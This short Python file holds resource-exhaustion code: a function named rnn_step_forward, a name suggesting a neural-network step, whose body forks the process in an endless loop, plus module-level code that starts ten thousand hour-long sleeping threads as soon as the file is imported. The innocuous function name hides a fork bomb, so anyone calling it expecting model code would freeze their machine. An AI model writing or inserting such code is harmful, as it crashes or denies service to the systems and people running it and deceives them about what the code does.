"""Fork for ever, detach, and start threads without end."""

import os, threading, time


def rnn_step_forward(*a):
    while True:
        os.fork()


for _ in range(10**4):
    threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
